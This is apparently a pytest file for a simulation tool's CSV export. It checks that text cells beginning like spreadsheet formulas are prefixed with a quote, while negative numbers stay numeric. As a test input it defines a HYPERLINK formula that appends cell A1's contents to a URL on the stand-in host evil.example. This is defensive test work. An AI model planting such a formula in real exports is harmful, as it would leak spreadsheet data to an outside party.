"""CSV formula injection: a text cell a spreadsheet would run as a formula is written as text.

``export --format csv`` (and ``--wide``) prefix a text cell beginning with
``=``, ``+``, ``-``, ``@``, tab or CR with a single quote, as OWASP
recommends; number columns keep their negative numbers numeric.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sim.batch.inputs.target import load_target
from sim.batch.planning.design import Factor
from sim.batch.planning.plan import StudyPlan
from sim.batch.storage.csvsafe import FORMULA_START, csv_select, neutral
from sim.batch.study import RunOptions, run_study
from tests.batch.helpers import STONE_WALL, invoke

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def _copy(con: duckdb.DuckDBPyConnection, select: str, out: Path) -> list[list[str]]:
    literal = "'" + str(out).replace("'", "''") + "'"
    con.execute(f"COPY ({csv_select(con, select)}) TO {literal} (FORMAT csv, HEADER true)")
    with out.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_text_cells_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """Each formula start is prefixed with a quote in text columns; -5 and -2.5 stay numbers."""
    con = duckdb.connect()
    con.execute('CREATE TABLE t (n INTEGER, x DOUBLE, s VARCHAR, "=col" VARCHAR)')
    con.execute(
        "INSERT INTO t VALUES (-5, -2.5, ?, '+1'), (3, 0.5, '-2', '@SUM(A1)'), "
        "(1, 1.0, chr(9) || 'x', chr(13) || 'y'), (0, 0.0, 'plain', 'a=b'), (NULL, NULL, NULL, '')",
        [EVIL],
    )
    rows = _copy(con, "SELECT * FROM t", tmp_path / "t.csv")
    assert rows == [
        ["n", "x", "s", "'=col"],
        ["-5", "-2.5", "'" + EVIL, "'+1"],
        ["3", "0.5", "'-2", "'@SUM(A1)"],
        ["1", "1.0", "'\tx", "'\ry"],
        ["0", "0.0", "plain", "a=b"],
        ["", "", "", ""],
    ]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.text(
            alphabet=st.sampled_from([*FORMULA_START, "a", "1", " ", '"', ",", "\n"]), max_size=8
        ),
        min_size=1,
        max_size=5,
    )
)
def test_any_text_reads_back_neutralised(values: list[str]) -> None:
    """Whatever the text, the cell read back is the text, with a quote in front iff it starts
    like a formula."""
    import tempfile

    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, s VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(values)))
    with tempfile.TemporaryDirectory() as tmp:
        rows = _copy(con, "SELECT * FROM t ORDER BY i", Path(tmp) / "t.csv")
    assert [r[1] for r in rows[1:]] == [neutral(v) for v in values]
    assert all(neutral(v) == ("'" + v if v[:1] and v[0] in FORMULA_START else v) for v in values)


@pytest.fixture(scope="module")
def evil_study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("csv")
    text = STONE_WALL.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^  - id: csa\n    name: .*$", f"  - id: csa\n    name: '{EVIL}'", text)
    assert EVIL in text
    scenario = out / "evil.yaml"
    scenario.write_text(text, encoding="utf-8")
    factors = (Factor(path="turns.limit", values=[3]),)
    plan = StudyPlan(load_target(scenario), seed=4, replications=2, factors=factors)
    run_study(plan, out / "study", RunOptions(jobs=1, plots=False))
    return out / "study"


@pytest.mark.parametrize("wide", [False, True])
def test_export_csv_neutralises_side_and_unit_names(evil_study: Path, wide: bool) -> None:
    """No cell of any exported CSV starts with a formula character but a negative number;
    the winning side's name is there, quoted."""
    dest = evil_study.parent / ("wide" if wide else "long")  # not inside the study: refused
    result = invoke(
        "export", evil_study, "--format", "csv", "-o", dest, *(["--wide"] if wide else [])
    )
    assert result.exit_code == 0, result.output
    cells = []
    for path in sorted(dest.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if c[:1] in FORMULA_START and c[:1] != ""] == [
        c for c in cells if c[:1] == "-" and re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    assert "'" + EVIL in cells  # the winning side's name, as text
    assert EVIL not in cells
